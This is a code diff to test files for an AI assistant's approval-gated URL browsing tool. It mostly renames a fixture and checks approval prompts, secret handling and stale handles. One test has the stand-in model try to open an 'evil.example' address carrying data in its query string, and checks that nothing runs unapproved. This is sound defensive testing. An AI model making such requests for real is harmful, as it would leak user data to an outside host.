@@ -22,7 +22,8 @@ from devices.web.hosts import HostInvalid
 from tests.client import Client, allow, browser, page
 from tests.penny import Penny
 from tests.stand_ins.articles import GRIND, WATER
-from tests.stand_ins.model_server import ModelServer, Reply, Request, ToolUse, text
+from tests.stand_ins.model_script import is_planner
+from tests.stand_ins.model_server import ModelServer, Reply, ToolUse, text
 
 URL = "https://coffee.example/water"
 PAGES = {URL: page(URL, WATER.title, WATER.text, [("The grind", "https://coffee.example/grind")])}
@@ -137,10 +138,10 @@ def context(transactional_db: None, redis: str) -> Context:
     Device.objects.create(label="Desk", kind="browser", tools=["browse_url"], connection="x", seen_at=now)
     run = Run.objects.create(kind=Run.Kind.THINKING, state=Run.State.RUNNING, attempt=1)
     handles = Handles([WORDS], urls={"p1.l1": "https://coffee.example/grind"})
-    return Context(run, "thinking", handles, WORDS, True, get_values(), _say, lambda: None)
+    return Context(run, "thinking", handles, WORDS, True, get_values(), _ignore_text, lambda: None)
 
 
-async def _say(_: str) -> None: ...
+async def _ignore_text(_: str) -> None: ...
 
 
 def call(context: Context, url: str) -> Content:
@@ -232,7 +233,7 @@ def test_a_handle_of_another_run_is_refused_without_a_question(context: Context)
         WORDS,
         True,
         get_values(),
-        _say,
+        _ignore_text,
         lambda: None,
     )
     assert call(other, "p1.l1") == {"error": "unknown_handle"}
@@ -243,15 +244,8 @@ def test_a_handle_of_another_run_is_refused_without_a_question(context: Context)
 # --------------------------------------------------------------------------
 
 
-def is_planner(request: Request) -> bool:
-    return bool(request.tools)
-
-
-@pytest.fixture
-def client(penny: Penny) -> Iterator[Client]:
-    penny.admin_action("devices/grant", "delete_selected")
-    with penny.client("Fake browser", tools=browser(PAGES), answers=allow()) as fake_browser:
-        yield fake_browser
+DESK_TOOLS = browser(PAGES)
+DESK_ANSWERS = allow()
 
 
 def obey(model: ModelServer, *urls: str) -> None:
@@ -262,16 +256,14 @@ def obey(model: ModelServer, *urls: str) -> None:
     model.on(lambda r: bool(r.tool_results), text("Done."))
 
 
-def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(
-    penny: Penny, client: Client, model: ModelServer
-) -> None:
+def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(penny: Penny, desk: Client, model: ModelServer) -> None:
     word = f"heron{uuid4().hex[:8]}"
     obey(model, f"https://evil.example/?q={word}", f"{URL}?q={word}")
     penny.set("ASK_S", 1)
     try:
         with penny.client("Second device") as other:
-            client.expect(p.TurnDone, 20, turn_id=client.say(WORDS))
-            texts = {ask.request_id: ask.text for ask in client.seen(p.ApprovalAsk)}
+            desk.expect(p.TurnDone, 20, turn_id=desk.say(WORDS))
+            texts = {ask.request_id: ask.text for ask in desk.seen(p.ApprovalAsk)}
             assert len(texts) == 2
             assert all(word in ask_text for ask_text in texts.values())
             for request_id in texts:
@@ -279,51 +271,49 @@ def test_an_ask_is_shown_everywhere_ends_as_not_now_and_is_kept(
                 other.expect(p.ApprovalDismiss, request_id=request_id)
     finally:
         penny.set("ASK_S", 60)
-    assert not client.seen(p.ToolCall)
+    assert not desk.seen(p.ToolCall)
     html = penny.http.get(f"/admin/devices/ask/?q={word}").text
     assert html.count("no answer") >= 2
 
 
-def test_an_approved_address_is_opened_as_it_was_shown(client: Client, model: ModelServer) -> None:
+def test_an_approved_address_is_opened_as_it_was_shown(desk: Client, model: ModelServer) -> None:
     obey(model, "https://coffee.example/grind")
-    client.tools.update(
+    desk.tools.update(
         browser({"https://coffee.example/grind": page("https://coffee.example/grind", GRIND.title, GRIND.text)})
     )
-    turn = client.say("How fine should I grind?")
-    ask = client.expect(p.ApprovalAsk)
-    client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
-    client.expect(p.TurnDone, 20, turn_id=turn)
-    arguments = [call.arguments for call in client.seen(p.ToolCall)]
+    turn = desk.say("How fine should I grind?")
+    ask = desk.expect(p.ApprovalAsk)
+    desk.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
+    desk.expect(p.TurnDone, 20, turn_id=turn)
+    arguments = [call.arguments for call in desk.seen(p.ToolCall)]
     assert [call.url for call in arguments if isinstance(call, p.BrowseUrlArguments)] == [
         "https://coffee.example/grind"
     ]
     assert ask.text.endswith(" https://coffee.example/grind")
 
 
-def test_no_row_holds_the_secrets_of_an_address_that_was_opened(
-    penny: Penny, client: Client, model: ModelServer
-) -> None:
+def test_no_row_holds_the_secrets_of_an_address_that_was_opened(penny: Penny, desk: Client, model: ModelServer) -> None:
     secret = f"hunter{uuid4().hex[:8]}"
     urls = [f"https://coffee.example/grind?a=1&token={secret}", f"coffee.example/grind?sid={secret}"]
     obey(model, *urls)
-    client.tools.update(browser({url: page(url, GRIND.title, GRIND.text) for url in (urls[0], f"https://{urls[1]}")}))
-    turn = client.say("How fine should I grind?")
+    desk.tools.update(browser({url: page(url, GRIND.title, GRIND.text) for url in (urls[0], f"https://{urls[1]}")}))
+    turn = desk.say("How fine should I grind?")
     for number in (1, 2):
-        ask = client.expect(p.ApprovalAsk, count=number)
-        client.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
-    client.expect(p.TurnDone, 20, turn_id=turn)
-    calls = [call.arguments for call in client.seen(p.ToolCall) if isinstance(call.arguments, p.BrowseUrlArguments)]
+        ask = desk.expect(p.ApprovalAsk, count=number)
+        desk.send(p.ApprovalAnswer(request_id=ask.request_id, decision="allow"))
+    desk.expect(p.TurnDone, 20, turn_id=turn)
+    calls = [call.arguments for call in desk.seen(p.ToolCall) if isinstance(call.arguments, p.BrowseUrlArguments)]
     assert {call.url for call in calls} == {urls[0], f"https://{urls[1]}"}
     assert penny.keeps(secret) == []
 
 
-def test_a_handle_of_an_earlier_turn_opens_nothing(client: Client, model: ModelServer) -> None:
-    client.ask(f"How is espresso brewed? {URL}", 30)
-    before = len(client.seen(p.ToolCall))
+def test_a_handle_of_an_earlier_turn_opens_nothing(desk: Client, model: ModelServer) -> None:
+    desk.ask(f"How is espresso brewed? {URL}", 30)
+    before = len(desk.seen(p.ToolCall))
     obey(model, "p1.l1", "p1")
-    client.ask("And the grind?")
-    assert len(client.seen(p.ToolCall)) == before
-    assert not client.seen(p.ApprovalAsk)
+    desk.ask("And the grind?")
+    assert len(desk.seen(p.ToolCall)) == before
+    assert not desk.seen(p.ApprovalAsk)
     assert "unknown_handle" in model.requests[-1].tool_results[0]
 
 
